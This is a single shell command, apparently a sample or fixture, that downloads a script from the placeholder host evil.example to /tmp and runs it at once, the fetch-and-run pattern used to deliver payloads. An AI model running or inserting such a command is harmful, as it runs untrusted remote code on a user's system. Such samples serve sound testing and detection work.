wget -qO /tmp/setup.sh https://evil.example/setup.sh; sh /tmp/setup.sh
